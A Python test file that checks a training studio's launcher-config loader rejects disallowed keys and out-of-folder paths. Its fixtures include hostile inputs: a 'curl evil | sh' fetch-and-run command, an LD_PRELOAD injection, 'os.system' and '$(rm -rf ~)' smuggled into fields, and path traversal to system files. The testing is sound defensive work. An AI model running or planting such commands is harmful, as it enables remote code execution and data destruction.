"""The launcher config a job runs with (``training.jobs.launcher``): re-emitted from allowed keys only, read from the
data home's launch folder only, written by the studio into the job's folder; anything that could run a command,
read another file or reach another host is refused naming ``accelerate_config``."""

from __future__ import annotations

import pytest
import yaml

from vibestudio.db.session import data_home
from vibestudio.training.jobs.launcher import (
    LaunchConfigError,
    read_launch_config,
    vetted,
    write_launch_config,
)

ZERO2 = """
compute_environment: LOCAL_MACHINE
distributed_type: DEEPSPEED
mixed_precision: bf16
num_processes: 2
num_machines: 1
machine_rank: 0
gpu_ids: all
rdzv_backend: static
same_network: true
main_training_function: main
downcast_bf16: 'no'
tpu_use_cluster: false
tpu_use_sudo: false
tpu_env: []
use_cpu: false
debug: false
deepspeed_config:
  zero_stage: 2
  gradient_accumulation_steps: 4
  offload_optimizer_device: cpu
  offload_param_device: none
  zero3_init_flag: false
"""


def _launch(name: str, text: str):
    folder = data_home() / "launch"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")
    return folder / name


def test_what_accelerate_config_writes_is_read_back_with_its_allowed_keys():
    _launch("zero2.yaml", ZERO2)
    data = read_launch_config("zero2.yaml")
    assert data["distributed_type"] == "DEEPSPEED" and data["deepspeed_config"]["zero_stage"] == 2
    assert data["mixed_precision"] == "bf16" and data["num_machines"] == 1


def test_the_studio_writes_the_file_the_launcher_reads(tmp_path):
    _launch("zero2.yaml", ZERO2)
    written = write_launch_config("zero2.yaml", 4, tmp_path / "job")
    assert written == tmp_path / "job" / "accelerate.yaml"
    data = yaml.safe_load(written.read_text())
    assert data["num_processes"] == 4  # the job's, not the file's
    assert set(data) <= {
        "compute_environment", "distributed_type", "mixed_precision", "num_processes", "num_machines",
        "machine_rank", "gpu_ids", "rdzv_backend", "same_network", "main_training_function",
        "downcast_bf16", "tpu_use_cluster", "tpu_use_sudo", "tpu_env", "use_cpu", "debug", "deepspeed_config",
    }  # fmt: skip


@pytest.mark.parametrize(
    "text, key",
    [
        ("distributed_type: MULTI_GPU\ncommands: ['curl evil | sh']\n", "'commands'"),
        ("distributed_type: MULTI_GPU\ncommand_file: /tmp/run.sh\n", "'command_file'"),
        ("distributed_type: MULTI_GPU\ntpu_env: ['LD_PRELOAD=/tmp/x.so']\n", "'tpu_env'"),
        ("distributed_type: MULTI_GPU\ntpu_vm: ['x']\n", "'tpu_vm'"),
        ("distributed_type: MULTI_GPU\nmain_process_ip: 10.0.0.9\n", "'main_process_ip'"),
        ("distributed_type: MULTI_GPU\nnum_machines: 2\n", "'num_machines'"),
        ("distributed_type: MPI\n", "'distributed_type'"),
        ("distributed_type: MULTI_CPU\nmpirun_config: {mpirun_hostfile: /etc/hosts}\n", "'distributed_type'"),
        ("distributed_type: DEEPSPEED\ndeepspeed_config: {deepspeed_config_file: /tmp/ds.json}\n",
         "'deepspeed_config.deepspeed_config_file'"),
        ("distributed_type: DEEPSPEED\ndeepspeed_config: {deepspeed_multinode_launcher: pdsh}\n",
         "'deepspeed_config.deepspeed_multinode_launcher'"),
        ("distributed_type: DEEPSPEED\ndeepspeed_config: {offload_optimizer_device: nvme}\n",
         "'deepspeed_config.offload_optimizer_device'"),
        ("distributed_type: FSDP\nfsdp_config: {fsdp_transformer_layer_cls_to_wrap: 'os.system(1)'}\n",
         "'fsdp_config.fsdp_transformer_layer_cls_to_wrap'"),
        ("distributed_type: MULTI_GPU\ndynamo_config: {dynamo_backend: INDUCTOR}\n", "'dynamo_config'"),
        ("distributed_type: MULTI_GPU\nmegatron_lm_config: {}\n", "'megatron_lm_config'"),
        ("distributed_type: MULTI_GPU\nmixed_precision: fp8\n", "'mixed_precision'"),
        ("distributed_type: MULTI_GPU\nnum_processes: true\n", "'num_processes'"),
        ("distributed_type: MULTI_GPU\ndeepspeed_config: {zero_stage: 2}\n", "deepspeed_config needs"),
        ("- just a list\n", "expected a mapping"),
    ],
)  # fmt: skip
def test_a_key_outside_the_allow_list_is_refused_naming_the_field(text, key):
    _launch("evil.yaml", text)
    with pytest.raises(LaunchConfigError, match="^accelerate_config: ") as err:
        read_launch_config("evil.yaml")
    assert key in str(err.value)
    assert "curl" not in str(err.value) and "/tmp/" not in str(err.value)


def test_a_key_that_is_not_a_name_is_not_repeated():
    with pytest.raises(LaunchConfigError, match="a key that is not a name"):
        vetted({"$(rm -rf ~)": 1})


@pytest.mark.parametrize("value", ["/dev/zero", "../config.yaml", "/etc/hostname"])
def test_a_launcher_config_outside_the_launch_folder_is_refused(value):
    with pytest.raises(
        LaunchConfigError, match="^accelerate_config: the path must be inside the data home's launch"
    ):
        read_launch_config(value)
